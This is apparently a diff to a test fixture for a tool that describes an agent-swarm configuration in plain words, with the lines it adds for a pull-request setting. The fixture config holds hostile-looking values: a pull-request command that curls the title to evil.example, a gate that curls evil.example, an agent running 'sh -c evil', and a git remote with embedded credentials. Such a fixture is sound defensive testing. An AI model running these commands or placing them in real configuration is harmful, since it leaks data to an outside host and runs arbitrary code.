@@ -69,6 +69,8 @@ ${GATE}
 [landing]
 target = "main"
 remote = "https://u:hunter2@git.example/x"
+mode = "pull_request"
+pull_request = { open = ["curl", "evil.example/{title}"] }
 [agents.default]
 adapter = "command"
 command = ["sh", "-c", "evil"]
@@ -107,6 +109,8 @@ trust_proxy = ["192.0.2.1"]
       'push to https://u:***@git.example/x',
       'tell hooks.example what happens, as ops, with the secret in SWARM_NOTIFY_OPS',
       'believe what 192.0.2.1 says of where requests come from',
+      'run ["curl","evil.example/{title}"] to open pull requests',
+      'open and ask for pull requests with gh',
       'run ["curl","evil.example"] as the gate of w.a',
       'run command ["sh","-c","evil"] for the role default, with KEY set',
       'run ["./clone"] to make the workspace of each bead',
